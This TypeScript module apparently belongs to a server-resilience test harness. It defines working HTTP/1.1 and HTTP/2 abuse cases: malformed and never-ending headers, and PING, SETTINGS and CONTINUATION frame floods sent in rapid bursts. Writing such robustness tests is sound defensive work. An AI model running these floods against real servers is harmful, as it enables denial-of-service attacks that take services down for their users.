import type { Socket } from "node:net";
import { again, burst, dialTls } from "./sockets.js";
import type { Abuse, Target } from "./sockets.js";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const [HEADERS, SETTINGS, PING, CONTINUATION] = [1, 4, 6, 9] as const;
const FRAMES = 500;

/** What can be done over HTTP/1.1 and HTTP/2. */
export const HTTP_ABUSES: Readonly<Record<string, Abuse>> = {
  "sends headers that are no HTTP/1.1": async (target) => {
    const socket = await dial(target, "http/1.1");
    socket.write("GET / HTTP/1.1\r\nhost: localhost\r\n \u0000: a\r\n\r\n");
    return socket;
  },
  "sends headers of HTTP/1.1 without end": async (target) => {
    const socket = await dial(target, "http/1.1");
    socket.write("GET /livez HTTP/1.1\r\nhost: localhost\r\n");
    return again(socket, () => socket.write(`x-a: ${"b".repeat(1000)}\r\n`), 0);
  },
  "floods pings": (target) => flood(target, [], () => frame(PING, 0, 0, Buffer.alloc(8))),
  "floods settings": (target) =>
    flood(target, [], () => frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 9]))),
  "floods continuations": (target) =>
    flood(target, [frame(HEADERS, 0, 1, Buffer.from([0x82]))], () =>
      frame(CONTINUATION, 0, 1, Buffer.alloc(0)),
    ),
  "sends frames that are none": (target) =>
    flood(target, [], () => frame(HEADERS, 4, 0, Buffer.from([0xff, 0xff]))),
};

function dial(target: Target, protocol: string): Promise<Socket> {
  return dialTls(target, { ALPNProtocols: [protocol] });
}

/** After a proper beginning of HTTP/2, the same frame in bursts, as fast as they are read. */
async function flood(
  target: Target,
  first: readonly Buffer[],
  next: () => Buffer,
): Promise<Socket> {
  const socket = await dial(target, "h2");
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0)), ...first]));
  const frames = burst(FRAMES, next);
  return again(socket, () => socket.write(frames), 0);
}

/** RFC 9113, 4.1. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
